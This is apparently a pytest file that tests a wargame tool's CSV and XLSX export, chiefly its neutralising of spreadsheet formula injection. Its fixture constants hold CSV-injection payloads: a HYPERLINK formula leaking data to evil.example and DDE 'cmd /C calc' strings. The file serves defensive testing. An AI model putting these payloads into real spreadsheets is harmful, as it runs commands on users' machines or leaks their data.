"""`wargame export --format csv|xlsx`: typed sheets, the turn on every row, no formulas.

The game is the tutorial fixture game with hostile texts in its first move, a reason and
a note: formulas (``=HYPERLINK``, ``+cmd|``, ``@SUM``, ``-2+3``), cells that start with a
tab or a carriage return, and a NUL byte. The exports are opened back with the csv
module and with openpyxl.
"""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import yaml

from wargame.cli import main
from wargame.game import Game, GameRecord, Viewer
from wargame.game.script import ScriptRunner, load_script
from wargame.game.tables import PER_TURN, record_tables, spreadsheet_cell
from wargame.scenario import load_scenario

REPO = Path(__file__).resolve().parents[2]
SCRIPT = REPO / "tests" / "fixtures" / "game" / "tutorial-game.yaml"

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
PIPE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"  # the game layer strips the tab: "=1+1" is stored
CR = "\r\n@SUM(2)"  # stored as "@SUM(2)"
NUL_NOTE = "A note with a NUL\x00 inside"
SHEETS = (
    "moves",
    "adjudications",
    "rolls",
    "injects",
    "effects",
    "observations",
    "findings",
    "audit",
)


@pytest.fixture(scope="module")
def hostile_game(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The tutorial fixture game, played with formula-like texts in its first move."""
    folder = tmp_path_factory.mktemp("hostile")
    actions: list[dict[str, Any]] = yaml.safe_load(SCRIPT.read_text(encoding="utf-8"))
    move = next(a for a in actions if a.get("ref") == "patrol")
    move.update(title=HYPERLINK, action=PIPE, intended_result=AT_SUM, reasons=[MINUS, "fine"])
    note = next(a for a in actions if a["do"] == "note")
    note["text"] = NUL_NOTE
    observation = next(a for a in actions if a["do"] == "observe")
    observation["text"] = TAB
    actions.insert(actions.index(note) + 1, {"do": "note", "text": CR})
    script = folder / "hostile.yaml"
    script.write_text(yaml.safe_dump(actions, allow_unicode=True), encoding="utf-8")
    path = folder / "hostile.wargame"
    with Game.create(path, load_scenario(REPO / "scenarios" / "tutorial.yaml"), seed=7) as game:
        ScriptRunner(game).run(load_script(script))
    return path


@pytest.fixture(scope="module")
def full_record(hostile_game: Path) -> GameRecord:
    with Game.open(hostile_game) as game:
        return game.queries().record(Viewer.facilitator())


@pytest.fixture(scope="module")
def workbook_path(hostile_game: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("xlsx") / "record.xlsx"
    assert main(["export", str(hostile_game), "--format", "xlsx", "-o", str(out)]) == 0
    return out


@pytest.fixture(scope="module")
def workbook(workbook_path: Path) -> Any:
    return openpyxl.load_workbook(workbook_path)


@pytest.fixture(scope="module")
def csv_folder(hostile_game: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("csv") / "record"
    assert main(["export", str(hostile_game), "--format", "csv", "-o", str(out)]) == 0
    return out


def _csv_rows(folder: Path, name: str) -> list[dict[str, str]]:
    with (folder / f"{name}.csv").open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def _sheet_rows(book: Any, name: str) -> list[dict[str, Any]]:
    rows = list(book[name].iter_rows(values_only=True))
    header = rows[0]
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


# ---------------------------------------------------------------------------- the one rule


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a\x00b", "ab"),
        ("\x00=1", "'=1"),
        ("plain = text", "plain = text"),
        ("", ""),
    ],
)
def test_a_text_cell_is_neutralised(text: str, expected: str) -> None:
    assert spreadsheet_cell(text) == expected


def test_numbers_times_and_empty_cells_keep_their_type() -> None:
    now = dt.datetime(2026, 1, 2, 3, 4, 5, tzinfo=dt.UTC)
    assert spreadsheet_cell(-3) == -3
    assert spreadsheet_cell(2.5) == 2.5
    assert spreadsheet_cell(True) is True
    assert spreadsheet_cell(now) is now
    assert spreadsheet_cell(None) is None


# ---------------------------------------------------------------------------- CSV


def test_csv_cells_that_start_like_a_formula_are_neutralised(csv_folder: Path) -> None:
    move = _csv_rows(csv_folder, "moves")[0]
    assert move["title"] == "'" + HYPERLINK
    assert move["action"] == "'" + PIPE
    assert move["intended_result"] == "'" + AT_SUM
    notes = {n["text"] for n in _csv_rows(csv_folder, "notes")}
    assert "'@SUM(2)" in notes
    assert NUL_NOTE.replace("\x00", "") in notes
    (observation,) = _csv_rows(csv_folder, "observations")
    assert observation["text"] == "'=1+1"


def test_csv_files_hold_no_nul_and_no_cell_starts_like_a_formula(csv_folder: Path) -> None:
    for path in csv_folder.glob("*.csv"):
        assert b"\x00" not in path.read_bytes(), path.name
        with path.open(encoding="utf-8", newline="") as f:
            for row in csv.reader(f):
                for cell in row:
                    assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path.name, cell)


def test_csv_keeps_negative_numbers_as_numbers(csv_folder: Path) -> None:
    deltas = [e["delta"] for e in _csv_rows(csv_folder, "effects")]
    assert "-1" in deltas


def test_csv_and_xlsx_hold_the_same_tables(csv_folder: Path, workbook: Any) -> None:
    assert {p.stem for p in csv_folder.glob("*.csv")} == set(workbook.sheetnames)
    for name in workbook.sheetnames:
        assert len(_csv_rows(csv_folder, name)) == workbook[name].max_row - 1, name


# ---------------------------------------------------------------------------- XLSX


def test_the_workbook_has_one_sheet_per_kind_of_record(
    workbook: Any, full_record: GameRecord
) -> None:
    assert set(SHEETS) <= set(workbook.sheetnames)
    counts = {
        "moves": len(full_record.moves),
        "adjudications": len(full_record.adjudications),
        "rolls": len(full_record.rolls),
        "injects": len(full_record.injects),
        "effects": len(full_record.effects),
        "observations": len(full_record.observations),
        "findings": len(full_record.findings),
        "audit": len(full_record.audit),
    }
    for name, count in counts.items():
        assert count > 0, name  # the fixture game has some of each
        assert workbook[name].max_row == count + 1, name


def test_every_row_of_every_per_turn_sheet_has_its_turn(workbook: Any) -> None:
    for name in PER_TURN:
        sheet = workbook[name]
        assert sheet["A1"].value == "turn", name
        turns = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
        assert turns, name
        assert all(isinstance(t, int) and 0 <= t <= 3 for t in turns), (name, turns)


def test_turns_match_the_record(workbook: Any, full_record: GameRecord) -> None:
    moves = _sheet_rows(workbook, "moves")
    assert [(m["id"], m["turn"]) for m in moves] == [(m.id, m.turn) for m in full_record.moves]
    by_adjudication = {a.id: a.turn for a in full_record.adjudications}
    for roll in _sheet_rows(workbook, "rolls"):
        assert roll["turn"] == by_adjudication[roll["adjudication_id"]]
    audit = _sheet_rows(workbook, "audit")
    assert audit[0]["action"] == "game.create" and audit[0]["turn"] == 0
    assert {a["turn"] for a in audit} >= {0, 1, 2}


def test_cells_are_typed(workbook: Any) -> None:
    move = _sheet_rows(workbook, "moves")[0]
    assert isinstance(move["id"], int) and isinstance(move["version"], int)
    assert isinstance(move["created_at"], dt.datetime)
    assert isinstance(move["revealed"], bool)
    roll = _sheet_rows(workbook, "rolls")[0]
    assert isinstance(roll["total"], int) and isinstance(roll["sequence"], int)
    effect = next(e for e in _sheet_rows(workbook, "effects") if e["kind"] == "track")
    assert isinstance(effect["delta"], int)
    sheet = workbook["moves"]
    column = next(c.column for c in sheet[1] if c.value == "created_at")
    assert sheet.cell(row=2, column=column).is_date


def test_times_are_written_in_utc(workbook: Any, full_record: GameRecord) -> None:
    move = _sheet_rows(workbook, "moves")[0]
    expected = full_record.moves[0].created_at.astimezone(dt.UTC).replace(tzinfo=None)
    assert abs(move["created_at"] - expected) < dt.timedelta(milliseconds=1)


def test_headers_are_frozen_and_filtered(workbook: Any) -> None:
    for sheet in workbook.worksheets:
        assert sheet.freeze_panes == "A2", sheet.title
        assert sheet.auto_filter.ref == sheet.dimensions, sheet.title
        assert sheet["A1"].font.b, sheet.title


def test_xlsx_cells_are_neutralised_and_hold_no_formula(workbook: Any) -> None:
    move = _sheet_rows(workbook, "moves")[0]
    assert move["title"] == "'" + HYPERLINK
    assert move["action"] == "'" + PIPE
    assert move["intended_result"] == "'" + AT_SUM
    notes = {n["text"] for n in _sheet_rows(workbook, "notes")}
    assert {"'@SUM(2)", NUL_NOTE.replace("\x00", "")} <= notes
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


def test_the_tables_come_from_the_game_layer(full_record: GameRecord) -> None:
    tables = {t.name: t for t in record_tables(full_record)}
    assert set(PER_TURN) <= set(tables)
    assert all(tables[name].per_turn for name in PER_TURN)
    assert not tables["participants"].per_turn
    moves = tables["moves"]
    assert moves.rows[0][moves.columns.index("title")] == HYPERLINK  # raw in the read model


@pytest.mark.slow
def test_the_demo_game_has_the_turn_on_every_row_of_every_per_turn_sheet(
    tmp_path: Path,
) -> None:
    """A second game of another shape: the bundled demo (six teams, four turns)."""
    game = tmp_path / "demo.wargame"
    loaded = load_scenario(REPO / "scenarios" / "troop-deployment.yaml")
    with Game.create(game, loaded, seed=20261125, facilitator="Alex Morgan") as opened:
        ScriptRunner(opened).run(load_script(REPO / "scenarios" / "troop-deployment.demo.yaml"))
        record = opened.queries().record(Viewer.facilitator())
    out = tmp_path / "demo.xlsx"
    assert main(["export", str(game), "--format", "xlsx", "-o", str(out)]) == 0
    book = openpyxl.load_workbook(out)
    last_turn = max(m.turn for m in record.moves)
    for name in PER_TURN:
        turns = [row[0] for row in book[name].iter_rows(min_row=2, values_only=True)]
        assert all(isinstance(t, int) and 0 <= t <= last_turn for t in turns), name
    for name in SHEETS:
        assert book[name].max_row > 1, name
    moves = _sheet_rows(book, "moves")
    assert sorted({m["turn"] for m in moves}) == sorted({m.turn for m in record.moves})
    assert {m["team_id"] for m in moves} == {m.team_id for m in record.moves}


# ---------------------------------------------------------------------------- refusals


def test_xlsx_without_a_file_is_one_sentence(
    hostile_game: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["export", str(hostile_game), "--format", "xlsx"]) == 1
    err = capsys.readouterr().err
    assert err.startswith("wargame: ") and err.count("\n") == 1
    assert "give a file name with -o" in err


def test_xlsx_into_a_missing_folder_writes_nothing(
    hostile_game: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "no" / "such" / "record.xlsx"
    assert main(["export", str(hostile_game), "--format", "xlsx", "-o", str(target)]) == 1
    err = capsys.readouterr().err
    assert "cannot write" in err and "Traceback" not in err
    assert not (tmp_path / "no").exists()


def test_a_failed_xlsx_leaves_an_existing_file_alone(
    hostile_game: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "record.xlsx"
    target.write_bytes(b"the analyst's own workbook")
    folder_in_the_way = tmp_path / "record.xlsx.part"
    folder_in_the_way.mkdir()
    assert main(["export", str(hostile_game), "--format", "xlsx", "-o", str(target)]) == 1
    assert "cannot write" in capsys.readouterr().err
    assert target.read_bytes() == b"the analyst's own workbook"
